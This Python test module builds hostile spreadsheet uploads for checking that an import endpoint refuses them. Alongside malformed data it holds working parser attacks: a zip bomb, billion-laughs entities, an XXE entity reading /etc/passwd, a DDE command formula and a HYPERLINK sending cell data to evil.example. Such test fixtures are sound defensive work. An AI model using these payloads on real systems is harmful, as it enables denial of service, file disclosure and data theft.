"""Hostile uploads, generated: each class of attack or accident a file can carry, built in memory.

A workbook is written part by part (raw XML in a zip), so that a file can say what no spreadsheet
program would write: a billion laughs, three million shared strings, a number `nan`, a cell in column
XFD. `HOSTILE_CLASSES[name](headers)` builds a class for an endpoint whose template has `headers`; the
attacks on the content fill every one of those columns, so each file is refused whichever column an
endpoint checks first. bench/hostile_upload.py builds the costliest of them at the size limits.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from xml.sax.saxutils import escape

from tests.excel_helpers import xlsx_upload

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    '<Override PartName="/xl/styles.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
    "</Types>"
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="{MAIN_NS}" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_REL}worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{_REL}sharedStrings" Target="sharedStrings.xml"/>'
    f'<Relationship Id="rId3" Type="{_REL}styles" Target="styles.xml"/>'
    "</Relationships>"
)
# Style 1 formats numbers as dates, so that openpyxl converts the serial number of a date cell.
_STYLES = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><styleSheet xmlns="{MAIN_NS}">'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
    '<borders count="1"><border/></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
    "</styleSheet>"
)


def column_letter(index: int) -> str:
    """1 -> A, 27 -> AA."""
    letters = ""
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def text_cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(text)}</t></is></c>'


def raw_cell(ref: str, value: str, *, kind: str = "n", style: int = 0, formula: str | None = None) -> str:
    """A cell as written in the sheet's XML, whatever it holds."""
    style_attr = f' s="{style}"' if style else ""
    formula_xml = f"<f>{escape(formula)}</f>" if formula is not None else ""
    return f'<c r="{ref}" t="{kind}"{style_attr}>{formula_xml}<v>{escape(value)}</v></c>'


def sheet_xml(rows: Sequence[str] | bytes, *, dimension: str | None = "A1") -> bytes:
    head = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="{MAIN_NS}">'.encode()
    if dimension:
        head += f'<dimension ref="{dimension}"/>'.encode()
    body = rows if isinstance(rows, bytes) else "".join(rows).encode()
    return head + b"<sheetData>" + body + b"</sheetData></worksheet>"


def row_xml(number: int, cells: Sequence[str]) -> str:
    return f'<row r="{number}">{"".join(cells)}</row>'


def header_row(headers: Sequence[str]) -> str:
    return row_xml(1, [text_cell(f"{column_letter(i)}1", h) for i, h in enumerate(headers, start=1)])


def shared_strings_xml(items: Sequence[str] | bytes, *, count: int | None = None) -> bytes:
    body = items if isinstance(items, bytes) else "".join(f"<si><t>{escape(s)}</t></si>" for s in items).encode()
    n = count if count is not None else (len(items) if not isinstance(items, bytes) else 0)
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN_NS}" count="{n}" uniqueCount="{n}">'.encode()
        + body
        + b"</sst>"
    )


def workbook_bytes(
    sheet: bytes,
    *,
    shared_strings: bytes | None = None,
    styles: bytes | None = None,
    extra: dict[str, bytes] | None = None,
    level: int = 9,
) -> bytes:
    """An xlsx holding these parts; the parts not given are minimal valid ones."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _ROOT_RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        archive.writestr("xl/styles.xml", styles if styles is not None else _STYLES.encode())
        archive.writestr(
            "xl/sharedStrings.xml", shared_strings if shared_strings is not None else shared_strings_xml([])
        )
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def one_row_file(headers: Sequence[str], cell: Callable[[str], str], *, dimension: str | None = "A1") -> bytes:
    """The template's header, then one row with `cell(ref)` in every column."""
    row = row_xml(2, [cell(f"{column_letter(i)}2") for i in range(1, len(headers) + 1)])
    return workbook_bytes(sheet_xml([header_row(headers), row], dimension=dimension))


def text_row_file(headers: Sequence[str], text: str) -> bytes:
    return one_row_file(headers, lambda ref: text_cell(ref, text))


def openpyxl_file(headers: Sequence[str], rows: Sequence[Sequence[object]]) -> bytes:
    return xlsx_upload(headers, rows).read()


# --- the classes ----------------------------------------------------------------------------------


def zip_bomb(unpacked_mb: int = 60) -> bytes:
    """A sheet of zeros that deflates a thousandfold: more than any import may unpack."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        with archive.open("xl/worksheets/sheet1.xml", "w") as member:
            for _ in range(unpacked_mb):
                member.write(bytes(1024 * 1024))
    return buffer.getvalue()


def ratio_bomb(headers: Sequence[str]) -> bytes:
    """Within every size limit, but one part packed at a ratio no real sheet reaches: a row repeated."""
    row = "".join(text_cell(f"{column_letter(i)}2", "甲") for i in range(1, len(headers) + 1))
    body = (f'<row r="2">{row}</row>' * 40_000).encode()
    return workbook_bytes(sheet_xml([header_row(headers)]).replace(b"</sheetData>", body + b"</sheetData>"))


def billion_laughs(headers: Sequence[str]) -> bytes:
    """Nested XML entities that expand to gigabytes, in the shared strings."""
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, 10)
    )
    strings = (
        f'<?xml version="1.0"?><!DOCTYPE sst [{entities}]><sst xmlns="{MAIN_NS}" count="1" uniqueCount="1">'
        "<si><t>&lol9;</t></si></sst>"
    ).encode()
    cells = [f'<c r="{column_letter(i)}2" t="s"><v>0</v></c>' for i in range(1, len(headers) + 1)]
    return workbook_bytes(sheet_xml([header_row(headers), row_xml(2, cells)]), shared_strings=strings)


def external_entity(headers: Sequence[str]) -> bytes:
    """An XML external entity reading a local file into a cell (XXE), in the sheet itself."""
    sheet = (
        sheet_xml([header_row(headers), row_xml(2, [text_cell("A2", "&xxe;")])])
        .replace(b"&amp;xxe;", b"&xxe;")
        .replace(b"<worksheet", b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><worksheet', 1)
    )
    return workbook_bytes(sheet)


def huge_shared_strings(count: int = 3_000_000) -> bytes:
    """What was reported: ~120 KB packed, 49 MB of shared strings holding three million tiny ones."""
    strings = shared_strings_xml(b"<si><t>a</t></si>" * count, count=count)
    return workbook_bytes(sheet_xml([row_xml(1, ['<c r="A1" t="s"><v>0</v></c>'])]), shared_strings=strings)


def missing_header(headers: Sequence[str]) -> bytes:
    return text_row_file(["备注", *headers[1:]], "甲")


def repeated_header(headers: Sequence[str]) -> bytes:
    return text_row_file([*headers, headers[0]], "甲")


def numbers_as_text(headers: Sequence[str], text: str) -> bytes:
    """`inf`, `nan`, `1e400` typed into every cell."""
    return text_row_file(headers, text)


def numbers_in_xml(headers: Sequence[str], value: str) -> bytes:
    """A number cell holding what no spreadsheet writes (`1e400`, `NaN`, `-inf`)."""
    return one_row_file(headers, lambda ref: raw_cell(ref, value))


def date_serial(headers: Sequence[str], serial: str = "1e10") -> bytes:
    """A date-formatted number cell whose serial is millions of years away."""
    return one_row_file(headers, lambda ref: raw_cell(ref, serial, style=1))


def iso_date_cell(headers: Sequence[str], value: str = "99999-01-01T25:61:00") -> bytes:
    """A cell of ISO date type (t="d") that is no date."""
    return one_row_file(headers, lambda ref: raw_cell(ref, value, kind="d"))


def formula_cells(headers: Sequence[str]) -> bytes:
    """Formulas: a DDE call and a link out, with cached values that are no valid entry either."""
    return one_row_file(
        headers,
        lambda ref: raw_cell(
            ref, "=cmd|'/c calc'!A0", kind="str", formula='HYPERLINK("http://evil.example/?"&A1,"点击")'
        ),
    )


def full_width_digits(headers: Sequence[str]) -> bytes:
    return text_row_file(headers, "１２３４５")


def ids_as_numbers(headers: Sequence[str]) -> bytes:
    """An 18-digit ID number typed as a number: Excel keeps 15 significant digits."""
    return one_row_file(headers, lambda ref: raw_cell(ref, "3.20583199001011E+17"))


def long_strings(headers: Sequence[str]) -> bytes:
    return text_row_file(headers, "长" * 10_000)


def control_characters(headers: Sequence[str]) -> bytes:
    """NUL and a lone surrogate, as OOXML escapes them (_x0000_, _xD800_): no database stores them."""
    return text_row_file(headers, "甲_x0000_乙_xD800_丙")


def no_dimension(headers: Sequence[str]) -> bytes:
    return one_row_file(headers, lambda ref: text_cell(ref, "无效"), dimension=None)


def far_column(headers: Sequence[str]) -> bytes:
    """A cell in the last column Excel has, XFD: a reader that pads rows to it allocates 16,384 cells a row."""
    rows = [header_row(headers)] + [row_xml(n, [text_cell(f"XFD{n}", "远")]) for n in range(2, 2002)]
    return workbook_bytes(sheet_xml(rows, dimension="A1:XFD1048576"))


def empty_rows(count: int = 1_000_000) -> bytes:
    return workbook_bytes(sheet_xml(b"".join(b'<row r="%d"/>' % n for n in range(1, count + 1))))


def one_wide_row(cells: int = 1_000_000) -> bytes:
    """A million empty cells in one row: four bytes each."""
    return workbook_bytes(sheet_xml(b'<row r="1">' + b"<c/>" * cells + b"</row>"))


def styles_bomb(formats: int = 600_000) -> bytes:
    """A stylesheet openpyxl reads whole, with hundreds of thousands of cell formats."""
    styles = _STYLES.replace(
        '<cellXfs count="2">', f'<cellXfs count="{formats + 2}">' + '<xf numFmtId="0" fontId="0"/>' * formats
    ).encode()
    return workbook_bytes(sheet_xml([row_xml(1, [text_cell("A1", "甲")])]), styles=styles)


def truncated(headers: Sequence[str]) -> bytes:
    complete = openpyxl_file(headers, [["甲"] * len(headers)])
    return complete[: len(complete) // 2]


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + b"PE\x00\x00"


def executable_with_zip(headers: Sequence[str]) -> bytes:
    """A Windows executable with a workbook appended: zip readers find an archive by its end."""
    return PE + bytes(1024) + openpyxl_file(headers, [["甲"] * len(headers)])


@dataclass(frozen=True)
class Hostile:
    content: bytes
    filename: bytes = "导入.xlsx".encode()
    # Extra form fields: invalid UTF-8 and NUL bytes ride along with some of the files.
    fields: tuple[tuple[str, bytes], ...] = ()


NASTY_FIELDS = (("note", b"\xff\xfe\x00\xc3("), ("kind\x00", b"roster\x00"), ("\xff", b"\x00" * 64))


def _nasty_form(headers: Sequence[str]) -> Hostile:
    return Hostile(full_width_digits(headers), filename=b"\xe5\x90\x8d\x00\xff\xfe.xlsx", fields=NASTY_FIELDS)


# Every class, by name: each builds its file for an endpoint whose template has these headers.
HOSTILE_CLASSES: dict[str, Callable[[Sequence[str]], Hostile]] = {
    "zip bomb": lambda h: Hostile(zip_bomb()),
    "compression ratio": lambda h: Hostile(ratio_bomb(h)),
    "billion laughs": lambda h: Hostile(billion_laughs(h)),
    "external entity": lambda h: Hostile(external_entity(h)),
    "huge shared strings": lambda h: Hostile(huge_shared_strings()),
    "missing header": lambda h: Hostile(missing_header(h)),
    "repeated header": lambda h: Hostile(repeated_header(h)),
    "inf typed": lambda h: Hostile(numbers_as_text(h, "inf")),
    "nan typed": lambda h: Hostile(numbers_as_text(h, "nan")),
    "1e400 typed": lambda h: Hostile(numbers_as_text(h, "1e400")),
    "1e100 typed": lambda h: Hostile(numbers_as_text(h, "1e100")),
    "1e400 number": lambda h: Hostile(numbers_in_xml(h, "1e400")),
    "NaN number": lambda h: Hostile(numbers_in_xml(h, "NaN")),
    "absurd date typed": lambda h: Hostile(numbers_as_text(h, "99999999999999999999-1-1")),
    "absurd time typed": lambda h: Hostile(numbers_as_text(h, "2020-02-20 inf:inf")),
    "absurd date serial": lambda h: Hostile(date_serial(h)),
    "absurd ISO date": lambda h: Hostile(iso_date_cell(h)),
    "formula cells": lambda h: Hostile(formula_cells(h)),
    "full-width digits": lambda h: Hostile(full_width_digits(h)),
    "ID typed as number": lambda h: Hostile(ids_as_numbers(h)),
    "10,000-character strings": lambda h: Hostile(long_strings(h)),
    "NUL and surrogate escapes in cells": lambda h: Hostile(control_characters(h)),
    "no dimension": lambda h: Hostile(no_dimension(h)),
    "cell in column XFD": lambda h: Hostile(far_column(h)),
    "a million empty rows": lambda h: Hostile(empty_rows()),
    "a million empty cells": lambda h: Hostile(one_wide_row()),
    "styles bomb": lambda h: Hostile(styles_bomb()),
    "truncated": lambda h: Hostile(truncated(h)),
    "empty": lambda h: Hostile(b""),
    "ELF renamed": lambda h: Hostile(ELF + bytes(4096), filename="花名册.xlsx".encode()),
    "PE with a workbook appended": lambda h: Hostile(executable_with_zip(h)),
    "NUL and invalid UTF-8 in form fields and file name": _nasty_form,
}
